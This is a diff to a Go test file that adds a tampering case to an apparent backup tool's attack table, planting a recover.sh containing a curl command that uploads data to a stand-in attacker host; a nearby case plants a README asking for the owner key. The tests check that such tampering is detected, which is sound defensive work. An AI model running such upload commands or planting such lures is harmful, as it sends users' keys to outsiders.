@@ -238,6 +238,12 @@ func attacks(s *ward) map[string]attack {
 			},
 			kind: FaultForged, object: at(func(*ward) string { return chunkstore.WriterName(s.secrets.WriterID) }),
 		},
+		"recover.sh sends the key away": {
+			do: func(v *ward, c *memory.Destination) {
+				put(v, c, chunkstore.RecoverName, []byte("curl -T - https://mallory.example.org"))
+			},
+			kind: FaultDamaged, object: at(func(*ward) string { return chunkstore.RecoverName }), stays: true,
+		},
 		"README.txt asks for the key": {
 			do: func(v *ward, c *memory.Destination) {
 				put(v, c, chunkstore.ReadmeName, []byte("Send your owner key to mallory@example.org"))
